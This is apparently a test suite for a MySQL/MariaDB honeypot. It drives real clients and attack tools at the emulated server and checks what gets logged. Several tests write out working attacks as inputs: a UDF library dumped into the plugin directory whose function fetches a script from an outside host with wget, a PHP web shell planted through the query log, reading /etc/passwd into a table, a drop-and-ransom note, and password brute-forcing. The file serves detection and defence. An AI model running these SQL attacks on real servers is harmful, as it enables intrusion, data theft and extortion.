import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { driver, installDrivers } from '../drivers.ts'
import { crack } from '../hashcat.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; hash?: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'mysql' && event.event.action === action
const commandLine = (line: string) => (event: Event) =>
  ofAction('command')(event) && (event as { process?: { command_line?: string } }).process?.command_line === line
const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-c', 'import pymysql']).status === 0,
)
const noDrivers = installDrivers()
const access = 'access: { rules: ["root:s3cret-word", "root:admin"], otherwise: refuse }'

describe('MariaDB, with real clients', () => {
  let skep: Skep
  let port: string
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'mysql-words-'))
  before(async () => {
    skep = await startSkep({ config: `persona: { os: debian-12 }\nservices: { mysql: { ${access} } }\n` })
    port = String(skep.port('mysql'))
    fs.writeFileSync(path.join(home, 'users'), 'root\nbackup\n')
    fs.writeFileSync(path.join(home, 'words'), 'alpha\nbeta\ns3cret-word\n')
  })
  after(async () => {
    await skep?.stop()
    fs.rmSync(home, { recursive: true })
  })
  const mariadb = async (sql: string, more: string[] = []) =>
    runClient('mariadb', ['-h127.0.0.1', `-P${port}`, '-uroot', '-ps3cret-word', '-t', ...more], { input: sql })
  const tried = async (client: string, pairs: readonly (readonly [string, string])[]) => {
    for (const [user, password] of pairs) {
      const fits = (event: Event) => {
        const { skep: own, user: who } = event as Login
        // A password on no list is there as its hash.
        return (
          ofAction('login')(event) &&
          who?.name === user &&
          (own.login.password === password || own.login.hash !== undefined)
        )
      }
      await skep.eventually(fits, 1, 20).catch(() => assert.fail(`${client}: ${user}/${password} was not recorded`))
    }
  }

  describe('mariadb', { skip: missing('mariadb') }, () => {
    test('shows what there is', async () => {
      const { out, err } = await mariadb('SHOW DATABASES; SELECT VERSION(); SELECT USER();')
      assert.match(out, /\| information_schema \|[\s\S]*\| mysql +\|/, err)
      assert.match(out, /10\.11\.\d+-MariaDB/)
      assert.match(out, /root@127\.0\.0\.1/)
      await skep.eventually(commandLine('SHOW DATABASES'))
      const attribute = (event: Event) =>
        ofAction('environment')(event) && JSON.stringify(event).includes('_client_name')
      await skep.eventually(attribute)
    })
    test('makes tables, which are there at the next visit', async () => {
      await mariadb(
        "CREATE DATABASE depot; USE depot; CREATE TABLE t (id INT AUTO_INCREMENT PRIMARY KEY, word VARCHAR(20)); INSERT INTO t (word) VALUES ('hay'), ('straw');",
      )
      const { out } = await mariadb('SELECT * FROM depot.t; DESCRIBE depot.t; SHOW CREATE TABLE depot.t;')
      assert.match(out, /\| +1 \| hay +\|\n\| +2 \| straw \|/)
      assert.match(out, /PRI/)
      assert.match(out, /ENGINE=InnoDB/)
    })
    test('says what the real one says of a mistake', async () => {
      const { err } = await mariadb('SELEC 1;')
      assert.match(
        err,
        /ERROR 1064 \(42000\) at line 1: You have an error in your SQL syntax; check the manual that corresponds to your MariaDB server version for the right syntax to use near 'SELEC 1' at line 1/,
      )
      const refused = await runClient('mariadb', ['-h127.0.0.1', `-P${port}`, '-uroot', '-pwrong'], {})
      assert.match(
        refused.err,
        /ERROR 1045 \(28000\): Access denied for user 'root'@'127\.0\.0\.1' \(using password: YES\)/,
      )
    })
  })

  test('a library put together in a table, dumped and called: the way it is done in the field', {
    skip: missing('mariadb'),
  }, async () => {
    const elf = '7f454c4602010100000000000000000003003e0001000000'
    const { err, out } = await mariadb(`USE mysql;
      CREATE DATABASE IF NOT EXISTS tmpdb; USE tmpdb;
      CREATE TABLE ghost (data LONGBLOB);
      INSERT INTO ghost VALUES (0x${elf.slice(0, 20)});
      UPDATE ghost SET data = CONCAT(data, 0x${elf.slice(20)});
      SELECT data FROM ghost INTO DUMPFILE '/usr/lib/mysql/plugin/lib_mysqludf_sys.so';
      CREATE FUNCTION sys_eval RETURNS STRING SONAME 'lib_mysqludf_sys.so';
      SELECT sys_eval('id; wget http://198.51.100.7/x.sh -O /tmp/x.sh');
      DROP FUNCTION sys_eval; DROP TABLE ghost;`)
    assert.match(out, /uid=\d+/, err)
    const [kept] = await skep.eventually(ofAction('file-upload'))
    const { createHash } = await import('node:crypto')
    assert.equal(
      (kept as { file?: { hash?: { sha256?: string } } }).file?.hash?.sha256,
      createHash('sha256').update(Buffer.from(elf, 'hex')).digest('hex'),
    )
    await skep.eventually(event => ofAction('exploit')(event) && JSON.stringify(event).includes('mysql-udf'))
    await skep.eventually(
      event => ofAction('file-download')(event) && JSON.stringify(event).includes('http://198.51.100.7/x.sh'),
    )
  })

  test('a web shell by the query log, and a file of the machine read into a table', {
    skip: missing('mariadb'),
  }, async () => {
    const { out, err } = await mariadb(`
      SET GLOBAL general_log_file = '/var/www/html/up.php';
      SET GLOBAL general_log = ON;
      SELECT '<?php system($_GET[1]); ?>';
      SET GLOBAL general_log = OFF;
      SELECT LOAD_FILE('/var/www/html/up.php');
      CREATE DATABASE stolen; CREATE TABLE stolen.lines (line TEXT);
      LOAD DATA INFILE '/etc/passwd' INTO TABLE stolen.lines;
      SELECT line FROM stolen.lines LIMIT 1;
      DROP DATABASE stolen;`)
    assert.match(out, /Query\s+SELECT '<\?php system/, err)
    assert.match(out, /root:x:0:0:root/)
    await skep.eventually(
      event => ofAction('file-upload')(event) && JSON.stringify(event).includes('/var/www/html/up.php'),
    )
  })

  test('what is not committed is gone with the client', { skip: missing('mariadb') }, async () => {
    await mariadb('CREATE DATABASE ledger; CREATE TABLE ledger.t (a INT); INSERT INTO ledger.t VALUES (1);')
    await mariadb('SET autocommit = 0; INSERT INTO ledger.t VALUES (2); DELETE FROM ledger.t WHERE a = 1;')
    const { out } = await mariadb('SELECT a FROM ledger.t; DROP DATABASE ledger;')
    assert.match(out, /\| +1 \|/)
    assert.doesNotMatch(out, /\| +2 \|/)
  })

  test('a ransom: the data gone, the note there at the next visit', { skip: missing('mariadb') }, async () => {
    const { out: before } = await mariadb('SELECT schema_name FROM information_schema.schemata', ['-N'])
    const [victim] =
      before.match(/\b(?!information_schema|mysql\b|performance_schema|sys\b|depot|tmpdb|schema_name)[a-z_]+\b/g) ?? []
    assert.ok(victim, before)
    await mariadb(
      `DROP DATABASE \`${victim}\`; CREATE DATABASE README_TO_RECOVER; USE README_TO_RECOVER; CREATE TABLE WARNING (id INT, warning TEXT); INSERT INTO WARNING VALUES (1, 'Your database was backed up. Send 0.01 BTC to recover your data.')`,
    )
    const { out } = await mariadb('SHOW DATABASES; SELECT * FROM README_TO_RECOVER.WARNING')
    assert.doesNotMatch(out, new RegExp(`\\| ${victim} `))
    assert.match(out, /0\.01 BTC/)
    await skep.eventually(event => ofAction('exploit')(event) && JSON.stringify(event).includes('mysql-ransom'))
  })

  test('PyMySQL', { skip: python ? false : 'python3-pymysql not installed' }, async () => {
    const program = `
import pymysql
c = pymysql.connect(host='127.0.0.1', port=${port}, user='root', password='s3cret-word', charset='utf8mb4', autocommit=True)
k = c.cursor()
k.execute('SELECT VERSION(), 1.5, NULL, %s', ('x\\'y',)); r = k.fetchone(); assert r[1:] == (__import__('decimal').Decimal('1.5'), None, "x'y"), r
k.execute('CREATE DATABASE py'); k.execute('USE py'); k.execute('CREATE TABLE p (a INT, b DATETIME, c DOUBLE)')
assert k.execute("INSERT INTO p VALUES (1, '2024-05-06 07:08:09', 2.5), (2, NULL, NULL)") == 2
k.execute('SELECT * FROM p ORDER BY a'); assert k.fetchall() == ((1, __import__('datetime').datetime(2024,5,6,7,8,9), 2.5), (2, None, None))
try: k.execute('SELECT * FROM nope'); raise SystemExit('no error')
except pymysql.err.ProgrammingError as e: assert e.args == (1146, "Table 'py.nope' doesn't exist"), e
c.ping(); c.select_db('mysql'); k.execute('DROP DATABASE py'); c.close(); print('fine')
`
    const { out, err } = await runClient(python!, ['-c', program])
    assert.equal(out, 'fine\n', err)
  })

  test('mysql2, with prepared statements', { skip: noDrivers }, async () => {
    type Mysql2 = {
      createConnection(options: object): Promise<{
        execute(sql: string, values?: unknown[]): Promise<[Record<string, unknown>[]]>
        query(sql: string): Promise<[unknown]>
        changeUser(o: object): Promise<void>
        ping(): Promise<void>
        end(): Promise<void>
      }>
    }
    const connection = await driver<Mysql2>('mysql2/promise').createConnection({
      host: '127.0.0.1',
      port: Number(port),
      user: 'root',
      password: 's3cret-word',
      multipleStatements: true,
    })
    const [rows] = await connection.execute('SELECT ? + 1 AS n, ? AS s, NULL AS z, 1.25 AS d, CAST(? AS SIGNED) AS i', [
      41,
      'text',
      7,
    ])
    assert.equal(Number(rows[0]?.n), 42)
    assert.equal(rows[0]?.s, 'text')
    assert.equal(rows[0]?.z, null)
    await connection.query(
      'CREATE DATABASE node; USE node; CREATE TABLE t (id INT PRIMARY KEY, at DATETIME, big BIGINT, x DOUBLE)',
    )
    await connection.execute('INSERT INTO t VALUES (?, ?, ?, ?)', [1, '2024-05-06 07:08:09', 9007199254740991, 0.5])
    const [back] = await connection.execute('SELECT * FROM t WHERE id = ?', [1])
    assert.equal(back[0]?.big, 9007199254740991)
    assert.equal(back[0]?.x, 0.5)
    await connection.ping()
    await connection.changeUser({ user: 'root', password: 'admin' })
    await assert.rejects(connection.query('SELECT nope()'), /does not exist/)
    await connection.end()
  })

  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const { out } = await runClient('hydra', [
      '-L',
      path.join(home, 'users'),
      '-P',
      path.join(home, 'words'),
      '-t',
      '1',
      '-I',
      '-s',
      port,
      '127.0.0.1',
      'mysql',
    ])
    assert.match(out, /\[mysql\] host: 127\.0\.0\.1 +login: root +password: s3cret-word/, out)
    await tried('hydra', [
      ['root', 'alpha'],
      ['root', 's3cret-word'],
      ['backup', 'beta'],
    ])
  })
  test('so does medusa', { skip: missing('medusa') }, async () => {
    const { out } = await runClient('medusa', [
      '-h',
      '127.0.0.1',
      '-n',
      port,
      '-U',
      path.join(home, 'users'),
      '-P',
      path.join(home, 'words'),
      '-M',
      'mysql',
      '-t',
      '1',
    ])
    assert.match(out, /ACCOUNT FOUND: \[mysql\] Host: 127\.0\.0\.1 User: root Password: s3cret-word/, out)
  })
  test('and ncrack', { skip: missing('ncrack') }, async () => {
    const { out } = await runClient(
      'ncrack',
      ['-U', path.join(home, 'users'), '-P', path.join(home, 'words'), `mysql://127.0.0.1:${port}`],
      { seconds: 120 },
    )
    assert.match(out, /'root' 's3cret-word'/, out)
  })

  test('nmap names the product, and its scripts see a server', { skip: missing('nmap') }, async () => {
    const nmap = async (scripts: string) =>
      (
        await runClient(
          'nmap',
          [
            '-Pn',
            '-n',
            '-sV',
            '-p',
            port,
            '--script',
            scripts,
            '--script-args',
            'mysqluser=root,mysqlpass=s3cret-word',
            '127.0.0.1',
          ],
          { seconds: 200 },
        )
      ).out
    const info = await nmap('mysql-info')
    assert.match(info, /open +mysql +(?:MySQL 5\.5\.5-10\.11|MariaDB)/, info)
    assert.match(
      info,
      /mysql-info:[\s\S]*Protocol: 10[\s\S]*Version: 5\.5\.5-10\.11\.\d+-MariaDB[\s\S]*Salt:[\s\S]*Auth Plugin Name: mysql_native_password/,
      info,
    )
    // mysql-variables reads one answer of 30 kB, which its library does only where no header falls between two reads.
    const out = await nmap('mysql-empty-password,mysql-enum,mysql-variables,mysql-databases,mysql-users')
    assert.match(out, /mysql-databases:[\s\S]*information_schema/, out)
    assert.match(out, /mysql-users:[\s\S]*root/, out)
    assert.match(out, /mysql-enum:/, out)
    assert.doesNotMatch(out, /honey|skep/i)
  })

  test('what is recorded of a log-in can be cracked', { skip: missing('hashcat', 'mariadb') }, async () => {
    await mariadb('SELECT 1')
    const [login] = (await skep.eventually(
      event => ofAction('login')(event) && (event as Login).skep.login.password === 's3cret-word',
    )) as Login[]
    assert.match(await crack(11_200, login!.skep.login.hash!, ['sunflower', 's3cret-word']), /:s3cret-word/)
  })
})

describe('MySQL 8, with real clients', () => {
  let skep: Skep
  before(async () => {
    skep = await startSkep({ config: `persona: { os: ubuntu-22.04 }\nservices: { mysql: { ${access} } }\n` })
  })
  after(() => skep?.stop())

  test('mysql2 logs in by caching_sha2_password, sealed by key and by TLS', { skip: noDrivers }, async () => {
    type Mysql2 = {
      createConnection(
        options: object,
      ): Promise<{ query(sql: string): Promise<[Record<string, unknown>[]]>; end(): Promise<void> }>
    }
    const { createConnection } = driver<Mysql2>('mysql2/promise')
    const options = { host: '127.0.0.1', port: skep.port('mysql'), user: 'root', password: 's3cret-word' }
    for (const more of [{}, {}, { ssl: { rejectUnauthorized: false } }]) {
      const connection = await createConnection({ ...options, ...more })
      const [rows] = await connection.query('SELECT VERSION() AS v')
      assert.match(String(rows[0]?.v), /^8\.0\.\d+-0ubuntu/)
      await connection.end()
    }
    await assert.rejects(
      createConnection({ ...options, password: 'never-on-a-list' }),
      /Access denied for user 'root'@'127\.0\.0\.1' \(using password: YES\)/,
    )
    const clear = (event: Event) =>
      ofAction('login')(event) && (event as Login).skep.login.password === 'never-on-a-list'
    await skep.eventually(clear)
  })
})
